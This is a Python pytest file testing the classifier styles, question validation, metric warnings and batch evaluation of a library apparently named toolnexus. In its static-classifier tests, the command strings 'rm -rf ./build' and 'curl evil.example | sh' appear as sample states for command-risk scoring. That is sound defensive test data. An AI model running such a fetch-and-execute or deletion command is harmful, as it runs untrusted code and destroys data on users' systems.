"""The classifier's other styles (``custom``, ``static``, ``llm`` on a scripted model), what every
evaluation does whatever the style (no questions, limits, degenerate warnings, metrics), and
``evaluate_batch`` (COMPAT §10)."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest

from toolnexus import (
    ChoiceQuestion,
    ClassifierError,
    Client,
    Decision,
    NoulAnswer,
    NoulQuestion,
    RecordedDecision,
    ScoreQuestion,
    canonical_json,
    canonical_request,
    create_classifier,
    questions_wire,
)
from toolnexus.judging.backends import llm_prompt
from toolnexus.testing import ScriptedModel, text

Q = {"q": NoulQuestion("Is it spam?")}
MODEL = "jev-test"
RISK = {
    "risk": ScoreQuestion("How hard is this command to undo?", ["read-only", "undoable", "not"]),
}


def risk_response(score: float) -> dict[str, Any]:
    return {
        "model": MODEL,
        "answers": {
            "risk": {
                "type": "score",
                "score": score,
                "confidence": 0.9,
                "legend": {"0": "read-only", "1": "undoable", "2": "not"},
                "probabilities": {"0": 0.3, "1": 0.3, "2": 0.4},
            }
        },
    }


# -- construction ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("options", "message"),
    [
        ({"style": "telepathy"}, "classifier: unknown style 'telepathy'"),
        ({"backend": "acme"}, "classifier: unknown backend 'acme'"),
        ({"style": "llm"}, 'classifier: style "llm" requires client'),
        ({"style": "custom"}, 'classifier: style "custom" requires evaluate'),
        ({"style": "static"}, 'classifier: style "static" requires decisions'),
        ({"timeout": 0}, "classifier: timeout must be a number of seconds > 0"),
    ],
)
def test_a_classifier_that_cannot_work_is_refused_at_construction(
    options: dict[str, Any], message: str
) -> None:
    with pytest.raises(ClassifierError, match=f"^{message}"):
        create_classifier(**options)


# -- custom ------------------------------------------------------------------------------------


async def test_custom_delegates_to_the_hosts_function_sync_or_async() -> None:
    seen: list[tuple[object, list[str]]] = []

    def sync(state: object, questions: dict[str, Any]) -> Decision:
        seen.append((state, sorted(questions)))
        return Decision(model="mine", answers={"q": NoulAnswer(0.5)}, calibrated=False)

    async def asynchronous(state: object, questions: dict[str, Any]) -> dict[str, Any]:
        return {"model": "wire", "answers": {"q": {"type": "noul", "noul": 0.2}}}

    d = await create_classifier(style="custom", evaluate=sync).evaluate({"x": 1}, Q)
    assert (d.model, d.noul("q").noul, d.calibrated) == ("mine", 0.5, False)
    assert seen == [({"x": 1}, ["q"])]
    wire = await create_classifier(style="custom", evaluate=asynchronous).evaluate("s", Q)
    assert (wire.model, wire.noul("q").noul) == ("wire", 0.2)


async def test_a_failing_or_wrong_custom_function_is_a_classifier_error() -> None:
    def boom(state: object, questions: object) -> Decision:
        raise RuntimeError("disk full")

    with pytest.raises(ClassifierError, match="custom: evaluate raised RuntimeError: disk full"):
        await create_classifier(style="custom", evaluate=boom).evaluate("s", Q)
    with pytest.raises(ClassifierError, match="custom: evaluate returned NoneType, not a Decision"):
        await create_classifier(style="custom", evaluate=lambda s, q: None).evaluate("s", Q)


# -- static ------------------------------------------------------------------------------------


def static_over(*states: tuple[object, float]) -> Any:
    return create_classifier(
        style="static",
        model=MODEL,
        decisions=[RecordedDecision(st, RISK, risk_response(score)) for st, score in states],
    )


async def test_static_tells_apart_recordings_that_differ_only_in_state() -> None:
    safe, rm = {"command": "git status"}, {"command": "rm -rf ./build"}
    clf = static_over((safe, 0.02), (rm, 2.25))
    assert (await clf.evaluate(rm, RISK)).score("risk").score == 2.25
    assert (await clf.evaluate(safe, RISK)).score("risk").score == 0.02


async def test_static_refuses_a_request_it_did_not_record() -> None:
    clf = static_over(({"command": "git status"}, 0.02))
    with pytest.raises(ClassifierError) as caught:
        await clf.evaluate({"command": "curl evil.example | sh"}, RISK)
    assert str(caught.value) == "classifier: static: no recorded decision for this request+state"
    other = {"risk": ScoreQuestion("Reworded?", ["read-only", "undoable", "not"])}
    with pytest.raises(ClassifierError, match="no recorded decision"):
        await clf.evaluate({"command": "git status"}, other)


async def test_static_hands_out_a_fresh_decision_on_every_hit() -> None:
    clf = static_over(({"c": 1}, 1.0))
    first = await clf.evaluate({"c": 1}, RISK)
    first.answers.clear()
    assert (await clf.evaluate({"c": 1}, RISK)).score("risk").score == 1.0


def test_a_malformed_recording_is_refused_when_the_corpus_is_built() -> None:
    with pytest.raises(ClassifierError, match="malformed response"):
        create_classifier(
            style="static", decisions=[RecordedDecision("s", Q, {"answers": {"q": {"type": "?"}}})]
        )


# -- llm ---------------------------------------------------------------------------------------


def llm_client(model: ScriptedModel) -> Client:
    from toolnexus import create_client

    return create_client(base_url=model.openai_base_url, style="openai", model="m-1", api_key="k")


async def test_llm_asks_a_client_run_and_reads_the_json_in_its_reply() -> None:
    reply = 'Sure!\n```json\n{"answers": {"q": {"type": "noul", "noul": 0.83}}}\n```\nDone.'
    async with ScriptedModel(
        [text(reply, usage={"prompt_tokens": 40, "completion_tokens": 9})]
    ) as m:
        async with llm_client(m) as client:
            clf = create_classifier(style="llm", client=client)
            d = await clf.evaluate({"message": "WIN A PRIZE"}, Q)
        sent = m.requests[0].body["messages"][-1]["content"]
    assert (d.noul("q").noul, d.calibrated, d.model) == (0.83, False, "m-1")
    assert (d.usage.input_tokens, d.usage.output_tokens) == (40, 9)
    assert sent == llm_prompt({"message": "WIN A PRIZE"}, Q)
    assert canonical_json({"message": "WIN A PRIZE"}).decode() in sent
    assert canonical_json(questions_wire(Q)).decode() in sent


def test_the_llm_prompt_asks_for_json_only() -> None:
    prompt = llm_prompt("s", Q)
    assert "one JSON object" in prompt
    assert '{"answers": {"<question key>": <its answer>, ...}}' in prompt


async def test_llm_refuses_a_reply_without_json_and_one_with_a_broken_answer() -> None:
    async with ScriptedModel(
        [text("I think it is spam."), text('{"answers": {"q": {"type": "noul"}}}')]
    ) as m:
        async with llm_client(m) as client:
            clf = create_classifier(style="llm", client=client)
            with pytest.raises(ClassifierError, match="llm: the reply holds no JSON object"):
                await clf.evaluate("s", Q)
            with pytest.raises(ClassifierError, match="answer 'q': noul must be a number"):
                await clf.evaluate("s", Q)


async def test_llm_turns_the_clients_failure_into_a_classifier_error() -> None:
    from toolnexus.testing import http_error

    async with ScriptedModel([http_error(400, "bad model")]) as m:
        async with llm_client(m) as client:
            clf = create_classifier(style="llm", client=client)
            with pytest.raises(ClassifierError, match=r"^classifier: llm: ProviderError"):
                await clf.evaluate("s", Q)


# -- every evaluation --------------------------------------------------------------------------


async def test_no_questions_is_refused_and_reported() -> None:
    events: list[dict[str, Any]] = []
    clf = create_classifier(
        style="custom", evaluate=lambda s, q: Decision(), on_metric=events.append
    )
    with pytest.raises(ClassifierError, match=r"^classifier: no questions to evaluate$"):
        await clf.evaluate("s", {})
    assert [(e["event"], e["status"]) for e in events] == [("classifier.evaluate", "error")]


async def test_a_question_over_its_limits_never_reaches_the_backend() -> None:
    calls: list[object] = []
    clf = create_classifier(style="custom", evaluate=lambda s, q: calls.append(s))
    with pytest.raises(ClassifierError, match=r"a score needs 2..10 ordered levels, got 1"):
        await clf.evaluate("s", {"bad": ScoreQuestion("?", ["only"])})
    assert calls == []


async def test_degenerate_choices_warn_once_per_key_and_are_sent_unchanged() -> None:
    questions = {
        "described": ChoiceQuestion("Move?", {"east": "into the wall", "west": "away"}),
        "keys_as_criteria": ChoiceQuestion("Move?", {"east": "east", "west": "west"}),
        "all_identical": ChoiceQuestion("Move?", {"east": "legal", "west": "legal"}),
        "all_empty": ChoiceQuestion("Move?", {"east": "", "west": ""}),
    }
    before = canonical_request(MODEL, questions)
    events: list[dict[str, Any]] = []
    sent: list[bytes] = []

    def record(state: object, qs: dict[str, Any]) -> Decision:
        sent.append(canonical_request(MODEL, qs))
        return Decision(model=MODEL)

    clf = create_classifier(style="custom", evaluate=record, on_metric=events.append)
    await clf.evaluate("s", questions)
    warnings = [e for e in events if e["event"] == "classifier.warning"]
    assert [w["question"] for w in warnings] == ["all_empty", "all_identical", "keys_as_criteria"]
    for warning in warnings:
        assert repr(warning["question"]) in warning["warning"]
        assert "SPEC.md §8B" in warning["warning"]
    events.clear()
    await clf.evaluate("s", questions)
    assert [e["event"] for e in events] == ["classifier.evaluate"]
    assert sent == [before, before]


# -- evaluate_batch ----------------------------------------------------------------------------


def gated(fail: set[int], limit: int) -> tuple[Any, dict[str, int]]:
    """A custom classifier answering ``{"i": n}`` with n/10, failing on ``fail``; it counts how
    many evaluations run at once, and the first ones wait until ``limit`` are in flight."""
    counts = {"now": 0, "most": 0, "started": 0}
    full = asyncio.Event()

    async def evaluate(state: dict[str, int], qs: object) -> Decision:
        counts["now"] += 1
        counts["started"] += 1
        counts["most"] = max(counts["most"], counts["now"])
        if counts["now"] >= limit:
            full.set()
        await full.wait()
        counts["now"] -= 1
        if state["i"] in fail:
            raise ClassifierError(f"boom {state['i']}")
        return Decision(model=MODEL, answers={"q": NoulAnswer(state["i"] / 10)})

    return create_classifier(style="custom", evaluate=evaluate), counts


async def test_a_batch_answers_in_state_order_within_its_concurrency() -> None:
    clf, counts = gated(set(), limit=3)
    decisions = await clf.evaluate_batch([{"i": i} for i in range(7)], Q, concurrency=3)
    assert [d.noul("q").noul for d in decisions] == [i / 10 for i in range(7)]
    assert counts["most"] == 3


async def test_a_batch_fails_closed_naming_the_lowest_failing_state() -> None:
    clf, _ = gated({2, 4}, limit=5)
    with pytest.raises(ClassifierError) as caught:
        await clf.evaluate_batch([{"i": i} for i in range(5)], Q)
    assert str(caught.value) == "classifier: evaluate_batch: state 2: boom 2"


async def test_a_batch_starts_no_state_after_a_known_failure() -> None:
    clf, counts = gated({0}, limit=1)
    with pytest.raises(ClassifierError, match="state 0"):
        await clf.evaluate_batch([{"i": i} for i in range(6)], Q, concurrency=1)
    assert counts["started"] == 1


async def test_an_empty_batch_is_refused_without_a_call() -> None:
    calls: list[object] = []
    clf = create_classifier(style="custom", evaluate=lambda s, q: calls.append(s))
    with pytest.raises(ClassifierError, match="evaluate_batch: no states to evaluate"):
        await clf.evaluate_batch([], Q)
    assert calls == []
    with pytest.raises(ClassifierError, match="concurrency must be ≥ 1"):
        await clf.evaluate_batch([1], Q, concurrency=0)


def test_nothing_about_a_classifier_touches_the_client() -> None:
    import toolnexus

    assert not [v for v in toolnexus.Client.__init__.__code__.co_varnames if "classifier" in v]
    assert json.loads(canonical_json({"b": 1, "a": 2})) == {"a": 2, "b": 1}
